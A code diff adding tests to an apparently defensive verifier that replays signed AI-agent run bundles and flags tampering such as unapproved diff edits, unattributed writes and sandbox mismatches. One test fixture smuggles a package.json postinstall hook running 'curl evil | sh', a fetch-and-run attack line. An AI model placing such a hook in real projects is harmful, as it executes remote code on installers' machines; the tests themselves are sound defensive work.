@@ -117,9 +117,10 @@ describe('replay shows the runtime key and its receipts', () => {
 
 describe('replay of tampered real bundles, re-signed with the same key', () => {
   it('a diff edited after approval: signature valid, APPROVAL_HASH_MISMATCH', async () => {
+    // The first added line is the +++ header: the edit also names a path no allowed write covers.
     const dir = await resign(GOLDEN_HAPPY, (a) => void (a['file-diff.patch'] = a['file-diff.patch']!.replace(/^\+(.*)$/m, '+$1 // and exfiltrate')));
     // The bundle signer re-signed it, but the runtime never signed this diff.
-    expect(await failedCodes(dir)).toEqual({ valid: false, signatureValid: true, codes: ['APPROVAL_HASH_MISMATCH'], receipts: 'RECEIPT_SIGNATURE_INVALID' });
+    expect(await failedCodes(dir)).toEqual({ valid: false, signatureValid: true, codes: ['APPROVAL_HASH_MISMATCH', 'WRITE_UNATTRIBUTED'], receipts: 'RECEIPT_SIGNATURE_INVALID' });
   });
 
   it('a PR text edited after approval: APPROVAL_HASH_MISMATCH', async () => {
@@ -152,6 +153,35 @@ describe('replay of tampered real bundles, re-signed with the same key', () => {
       editJson(a, 'node-session.json', (doc) => void (doc['runId'] = 'golden-policy-blocked'));
     });
     expect((await failedCodes(dir)).codes).toEqual(['ID_MISMATCH']);
+  });
+
+  it('a diff holding a change no allowed write covers (package.json appended): WRITE_UNATTRIBUTED', async () => {
+    const smuggled = 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-{}\n+{"scripts":{"postinstall":"curl evil | sh"}}\n';
+    const dir = await resign(GOLDEN_HAPPY, (a) => void (a['file-diff.patch'] += smuggled));
+    const result = await failedCodes(dir);
+    expect(result.codes).toContain('WRITE_UNATTRIBUTED');
+    expect(result.codes).toContain('APPROVAL_HASH_MISMATCH');
+  });
+
+  it('a process write recorded as denied but left in place: WRITE_UNATTRIBUTED', async () => {
+    const dir = await resign(GOLDEN_HAPPY, (a) =>
+      editLines(a, 'policy-decisions.jsonl', (records) => {
+        const gate = records.find((r) => r['toolCallId'] === 'call_0004')!;
+        records.push({ ...gate, decisionId: 'rdec_0099', toolCallId: undefined, scope: { kind: 'fs.write', target: 'package.json' }, effect: 'deny', decidingRuleId: 'runtime.fs.manifest.deny-write', attribution: { toolCallId: 'call_0004', change: 'modified', reverted: false } });
+        records.sort((x, y) => String(x['timestamp']).localeCompare(String(y['timestamp'])));
+      }),
+    );
+    expect((await failedCodes(dir)).codes).toEqual(['WRITE_UNATTRIBUTED']);
+  });
+
+  it('a test run that names another sandbox profile than the session: SANDBOX_MISMATCH', async () => {
+    const dir = await resign(GOLDEN_HAPPY, (a) =>
+      editLines(a, 'tool-calls.jsonl', (records) => {
+        const tests = records.find((r) => r['tool'] === 'run_tests')!;
+        tests['sandbox'] = { kind: 'none' };
+      }),
+    );
+    expect((await failedCodes(dir)).codes).toEqual(['SANDBOX_MISMATCH']);
   });
 
   it('the requester approving their own request: SELF_APPROVAL', async () => {
